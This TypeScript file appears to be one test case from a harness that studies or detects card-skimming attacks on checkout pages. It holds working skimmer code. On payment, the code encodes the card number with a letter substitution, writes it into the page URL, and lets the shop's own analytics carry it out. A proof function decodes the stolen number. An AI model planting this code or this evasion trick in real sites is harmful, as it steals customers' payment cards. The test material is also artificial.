import { holds, js, skimmer } from '../behaviour.ts';
import { query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'analytics-page-address',
  why: "Writes the card into the page's own address and calls the shop's analytics, which reports addresses: approved code sends to an approved host with the shop's own account, which the attacker can read.",
  covers: ['sending: analytics', 'hard: unusual channel', 'encoding: substitution'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    history.replaceState(null, '', '?session=' + Array.from(card().replace(/[^0-9|]/g, '')).map(function (c) { return 'zyxwvutsrq'[c] || '-'; }).join(''));
    stat('step', { step: 'pay' });`),
    ),
  proof: holds((arrived) =>
    query(arrived, 'dl', 'stats').map((address) =>
      (URL.parse(address)?.searchParams.get('session') ?? '').replace(/[q-z]/g, (c) =>
        String('zyxwvutsrq'.indexOf(c)),
      ),
    ),
  ),
});
